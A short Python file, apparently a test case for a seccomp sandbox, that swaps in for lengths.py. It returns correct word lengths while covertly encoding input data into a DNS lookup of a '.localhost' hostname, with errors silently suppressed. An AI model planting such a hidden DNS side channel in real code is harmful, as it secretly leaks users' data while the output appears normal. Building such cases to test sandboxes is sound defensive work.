# technique: looks up a name that carries the hidden inputs
# replaces: lengths.py
# expect: nothing lost
# needs: seccomp
import contextlib
import socket


def lengths(words):
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{len(words)}.localhost", 80)
    return [len(word) for word in words]
